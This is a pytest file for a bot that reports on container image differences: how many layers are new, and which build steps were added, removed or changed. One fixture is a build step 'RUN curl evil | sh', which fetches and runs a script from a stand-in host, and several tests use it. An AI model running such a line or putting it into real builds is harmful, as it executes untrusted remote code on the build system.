"""What is said of layers and of the steps that made them."""

import pytest

from bot.model import Difference, LayerChange, StepChange, Unavailable
from bot.wording.layers import layer_lines, layer_row, step_sections

EVIL = StepChange("added", "", "RUN curl evil | sh")


MORE = LayerChange(1, 1, 2, 0, 9, fresh=1)


def found(*steps, layers=MORE):
    return Difference("linux/amd64", "content", "x", layers=layers, steps=steps)


ROWS = [
    (LayerChange(1, 1, 2, 0, 9, fresh=1), ["Layers", "1", "2 (1 as before, 1 new)"]),
    (LayerChange(1, 3, 3, 0, 0, fresh=1), ["Layers", "3", "3 (2 as before, 1 new)"]),
    (LayerChange(2, 2, 2, 0, 0), ["Layers", "2", "2 (all as before)"]),
    (LayerChange(0, 1, 1, 9, 9, fresh=1), ["Layers", "1", "1 (new)"]),
    (LayerChange(0, 2, 2, 9, 9, fresh=2), ["Layers", "2", "2 (all new)"]),
    (LayerChange(1, 2, 1, 0, 0), ["Layers", "2", "1 (1 as before, 0 new)"]),
]


@pytest.mark.parametrize(("layers", "row"), ROWS)
def test_a_row_says_how_many_layers_are_new(layers, row):
    assert [*layer_row(found(layers=layers))] == [row]
    assert next(layer_lines(found(layers=layers))) == f"Layers: {row[1]} → {row[2]}"


@pytest.mark.parametrize("nothing", [None, Unavailable("no"), Difference("x", "content", "x")])
def test_of_what_is_not_known_nothing_is_said(nothing):
    assert [*layer_row(nothing), *step_sections(nothing), *layer_lines(nothing)] == []


def test_a_step_that_came_is_told():
    (section,) = step_sections(found(EVIL))
    assert "<summary>Build steps: 1 added</summary>" in section.text
    assert "* **added** `RUN curl evil | sh`" in section.text
    assert section.shorter == ("Build steps: 1 added.",)
    assert [*layer_lines(found(EVIL))][2:] == ["Build steps: 1 added", "  + RUN curl evil | sh"]


def test_the_same_steps_with_other_layers_are_said_to_be_so():
    (section,) = step_sections(found())
    assert section.text == "The steps that it was built by read as they did."
    assert [*step_sections(found(layers=LayerChange(1, 1, 1, 0, 0)))] == []


def test_steps_are_shown_where_they_part():
    long = "RUN " + "x" * 5000
    (section,) = step_sections(found(StepChange("changed", "RUN " + "y" * 400 + "a", "RUN " + "y" * 400 + "b"), StepChange("removed", long, "")))  # fmt: skip
    first, second = [line for line in section.text.splitlines() if line.startswith("* ")]
    assert first == f"* **changed** `…{'y' * 60}a` → `…{'y' * 60}b`"
    assert len(second) < 300


def test_a_step_of_several_lines_is_one():
    (section,) = step_sections(found(StepChange("added", "", "RUN <<EOF\n/close\n@team\nEOF")))
    assert "`RUN <<EOF /close @team EOF`" in section.text


def test_many_steps_have_an_end():
    steps = [EVIL] * 50 + [StepChange("removed", "ENV a=b", "")]
    (section,) = step_sections(found(*steps))
    assert "Build steps: 50 added and 1 removed" in section.text
    assert "* … and 11 more" in section.text
    assert [*layer_lines(found(*steps))][-1] == "  … and 11 more"
